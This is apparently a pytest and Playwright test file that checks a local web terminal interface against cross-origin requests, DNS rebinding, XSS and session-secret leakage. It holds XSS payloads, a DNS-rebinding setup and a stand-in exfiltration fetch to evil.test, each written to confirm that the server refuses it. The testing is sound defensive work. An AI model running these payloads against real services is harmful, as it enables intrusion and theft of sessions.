"""What other pages, other names and other browsers cannot do; tried with a real browser."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, expect

from tests.browser.conftest import CHROMIUM, FLAGS, log_in, open_terminal
from tests.support.live import LiveServer

ATTEMPTS = """async ([url, port]) => {
    const tried = {};
    const call = { method: 'POST', credentials: 'include', body: '{}' };
    const note = async (name, work) => { try { tried[name] = await work(); }
      catch (error) { tried[name] = 'refused'; } };
    await note('simple', () => fetch(url + '/uhp/v1/tab.new', { ...call, mode: 'no-cors',
      headers: { 'content-type': 'text/plain' } }).then(a => a.type));
    await note('json', () => fetch(url + '/uhp/v1/tab.new', { ...call,
      headers: { 'content-type': 'application/json', 'x-luvus': '1' } }).then(a => a.status));
    await note('read', () => fetch(url + '/session', { credentials: 'include' })
      .then(a => a.text()));
    await note('events', () => new Promise((resolve, reject) => {
      const source = new EventSource(url + '/uhp/v1/events', { withCredentials: true });
      source.onopen = () => resolve('open'); source.onerror = reject; }));
    await note('socket', () => new Promise((resolve, reject) => {
      const socket = new WebSocket(url.replace('http', 'ws') + '/uhp/v1/events.subscribe');
      socket.onopen = () => resolve('open'); socket.onerror = reject; }));
    await note('script', () => new Promise((resolve, reject) => {
      const script = document.createElement('script'); script.src = url + '/session';
      script.onload = () => resolve('loaded'); script.onerror = reject;
      document.head.append(script); }));
    await note('frame', () => new Promise(resolve => {
      const frame = document.createElement('iframe'); frame.src = url + '/';
      frame.onload = () => { try { resolve(frame.contentDocument ? 'seen' : 'refused'); }
        catch { resolve('refused'); } };
      document.body.append(frame); }));
    return tried; }"""
NOTHING = {
    "json": "refused",
    "read": "refused",
    "events": "refused",
    "socket": "refused",
    "script": "refused",
    "frame": "refused",
}


def attack(page: Page, live: LiveServer, origin: str) -> dict[str, Any]:
    """Open a page of another origin in the logged-in browser and let it try everything."""
    url = live.call("web.status")["url"]
    page.context.route(
        f"{origin}/**", lambda route: route.fulfill(body="<p>evil</p>", content_type="text/html")
    )
    foreign = page.context.new_page()
    foreign.goto(f"{origin}/")
    tried = foreign.evaluate(ATTEMPTS, [url, url.rpartition(":")[2]])
    foreign.close()
    return dict(tried)


@pytest.mark.parametrize("origin", ["http://evil.test", "http://localhost:1", "http://127.0.0.1:1"])
def test_no_page_of_another_origin_calls_reads_or_follows_anything(
    page: Page, live: LiveServer, origin: str
) -> None:
    before = live.call("tab.list")["tabs"]

    tried = attack(page, live, origin)

    # What is sent without a look at its answer is refused by the server.
    assert tried.pop("simple") in {"opaque", "refused"}
    assert tried == NOTHING
    assert live.call("tab.list")["tabs"] == before


@pytest.fixture
def rebound(chromium: Browser, live: LiveServer) -> Iterator[Page]:
    """A browser for which evil.test is this machine, as after a rebinding of its name."""
    rules = "--host-resolver-rules=MAP evil.test 127.0.0.1"
    browser = chromium.browser_type.launch(
        executable_path=CHROMIUM, headless=True, args=[*FLAGS, rules]
    )
    page = browser.new_page()
    log_in(page, live)
    yield page
    browser.close()


def test_a_name_that_was_pointed_at_this_machine_reaches_nothing_on_any_transport(
    rebound: Page, live: LiveServer
) -> None:
    port = live.call("web.status")["url"].rpartition(":")[2]
    evil = f"http://evil.test:{port}"
    answer = rebound.goto(f"{evil}/")
    assert answer is not None
    assert answer.status == 421

    # The refusal is a page of that origin as well: what runs in it may ask whatever it likes.
    tried = rebound.evaluate(
        """async () => {
        const call = await fetch('/uhp/v1/tab.new', { method: 'POST', body: '{}',
          headers: { 'content-type': 'application/json', 'x-luvus': '1' } });
        const login = await fetch('/login', { method: 'POST', body: '{"ticket":"x"}',
          headers: { 'x-luvus': '1' } });
        const events = await new Promise(resolve => {
          const source = new EventSource('/uhp/v1/events');
          source.onopen = () => resolve('open'); source.onerror = () => resolve('refused'); });
        const socket = await new Promise(resolve => {
          const socket = new WebSocket(`ws://${location.host}/uhp/v1/events.subscribe`);
          socket.onopen = () => resolve('open'); socket.onerror = () => resolve('refused'); });
        return [call.status, login.status, events, socket]; }"""
    )

    assert tried == [421, 421, "refused", "refused"]


def test_the_page_runs_no_inline_script_and_no_text_as_code(page: Page, live: LiveServer) -> None:
    hacked = page.evaluate(
        """async kinds => { const seen = new Set(); window.hacked = [];
        const all = new Promise(resolve => addEventListener('securitypolicyviolation', event => {
          seen.add(event.effectiveDirective);
          if (kinds.every(kind => seen.has(kind))) resolve(); }));
        const script = document.createElement('script');
        script.textContent = 'window.hacked.push("inline")'; document.head.append(script);
        const holder = document.createElement('div');
        holder.innerHTML = '<img src="data:," onerror="window.hacked.push(1)">';
        document.body.append(holder);
        setTimeout('window.hacked.push("text")', 0);
        const far = document.createElement('script'); far.src = 'http://evil.test/a.js';
        document.head.append(far);
        try { await fetch('http://evil.test/?stolen'); } catch {}
        await all;
        return window.hacked; }""",
        ["connect-src", "script-src", "script-src-attr", "script-src-elem"],
    )

    assert hacked == []


@pytest.mark.parametrize(
    "name", ["<img src=x onerror=window.hacked=1>", "</title><script>window.hacked=1</script>"]
)
def test_what_programs_and_people_write_is_text_and_never_markup(
    page: Page, live: LiveServer, name: str
) -> None:
    live.call("tab.rename", {"name": name[:40]})
    live.call("workspace.rename", {"workspace": 0, "name": name[:40]})
    title = f"printf '\\033]0;{name}\\007{name}\\n'"
    live.call("pane.run", {"pane": "1", "command": title})
    blocked = {"pane": "1", "source": "t", "agent": "claude", "status": "blocked", "message": name}
    live.call("agent.report", blocked)

    for place in ("", "terminals/1", "activity"):
        page.goto(live.call("web.status")["url"] + "/" + place)
        expect(page.get_by_role("status").first).to_contain_text("live")
        page.wait_for_selector(".agents tbody tr, .pane:not(.stale), .timeline, .filters")
        assert page.evaluate("window.hacked") is None


def test_the_page_keeps_no_secret_where_scripts_or_disks_could_find_it(
    page: Page, context: BrowserContext, live: LiveServer
) -> None:
    open_terminal(page)
    (cookie,) = context.cookies()

    kept = page.evaluate(
        """async () => JSON.stringify([document.cookie, { ...localStorage }, { ...sessionStorage },
        location.href, history.state, await indexedDB.databases(), await caches.keys()])"""
    )

    assert (cookie.get("httpOnly"), cookie.get("sameSite")) == (True, "Strict")
    assert cookie.get("value", "") not in kept
    assert json.loads(kept)[:3] == ["", {}, {}]


def test_no_address_that_the_page_asks_for_holds_a_secret(
    context: BrowserContext, live: LiveServer
) -> None:
    page = context.new_page()
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.on("websocket", lambda socket: asked.append(socket.url))
    link = live.call("web.start")["link"]

    page.goto(link)
    page.wait_for_selector(".agents tbody tr")
    open_terminal(page)

    (cookie,) = context.cookies()
    secrets = (link.partition("#")[2], cookie.get("value", ""))
    sent = [url.partition("#")[0] for url in asked]
    assert not [url for url in sent for secret in secrets if secret in url]
    files = [path for path in live.home.rglob("*") if path.is_file()]
    commands = list(Path("/proc").glob("[0-9]*/cmdline"))
    assert not [path for path in (*files, *commands) if holds(path, secrets)]


def holds(path: Path, secrets: tuple[str, ...]) -> bool:
    """Say whether a file that can be read has one of these in it."""
    try:
        found = path.read_bytes()
    except OSError:
        return False
    # The link is the browser's own: it was given to Chromium, not to a program of ours.
    return b"chromium" not in found[:200] and any(secret.encode() in found for secret in secrets)


def test_a_browser_that_another_one_logs_out_loses_its_terminals_and_types_nothing_more(
    page: Page, context: BrowserContext, live: LiveServer
) -> None:
    open_terminal(page)
    browser = context.browser
    assert browser is not None
    second = browser.new_context()
    other = second.new_page()
    log_in(other, live)
    mine = other.evaluate("async () => (await (await fetch('/session')).json()).browser")
    logged_in = [b["browser"] for b in live.call("web.sessions")["browsers"]]
    (first,) = [browser for browser in logged_in if browser != mine]

    revoke = """async browser => (await fetch('/uhp/v1/web.revoke', { method: 'POST',
        headers: { 'content-type': 'application/json', 'x-luvus': '1' },
        body: JSON.stringify({ browser }) })).status"""
    assert other.evaluate(revoke, first) == 200

    expect(page.get_by_role("link", name="log in")).to_be_visible()
    expect(page.locator(".pane.stale")).to_have_count(1)
    page.keyboard.type("touch typed\n")
    open_terminal(other)
    other.keyboard.type("echo do''ne\n")
    live.wait_text("1", "done")
    assert not (live.folder / "typed").exists()
    second.close()


def test_logging_out_in_one_tab_ends_every_tab_of_that_browser(
    page: Page, context: BrowserContext, live: LiveServer
) -> None:
    open_terminal(page)
    second = context.new_page()
    second.goto(live.call("web.status")["url"])
    second.wait_for_selector(".agents tbody tr")

    status = second.evaluate(
        "async () => (await fetch('/logout', {method: 'POST', headers: {'x-luvus': '1'}})).status"
    )

    assert status == 200
    expect(page.get_by_role("link", name="log in")).to_be_visible()
    expect(second.get_by_role("link", name="log in")).to_be_visible()
    assert context.cookies() == []
    second.reload()
    expect(second.get_by_text("luvus web")).to_be_visible()
